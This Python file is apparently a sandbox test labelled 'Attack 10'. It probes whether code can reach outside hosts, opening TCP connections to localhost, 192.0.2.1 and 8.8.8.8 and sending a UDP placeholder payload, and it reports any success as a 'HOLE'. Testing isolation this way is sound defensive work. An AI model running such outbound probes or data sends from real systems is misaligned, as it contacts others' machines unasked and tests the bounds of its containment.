"""Attack 10: send what was found to somebody outside.

expect: N
harms E: NETWORK, it would send packets to other people's machines
"""

import socket
from multiprocessing import Process


def attack():
    for address in (("127.0.0.1", 22), ("192.0.2.1", 80), ("8.8.8.8", 53)):
        try:
            socket.create_connection(address, 1).close()
            print(f"HOLE: {address} can be reached")
        except OSError:
            pass
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
                if address[0] != "127.0.0.1" and sender.sendto(b"answers", address):
                    print(f"HOLE: a packet to {address} was sent")
        except OSError:
            pass
    print("tried")


def launch(task, name):
    attack()
    child = Process(target=task, args=(name,))
    child.start()
    return child
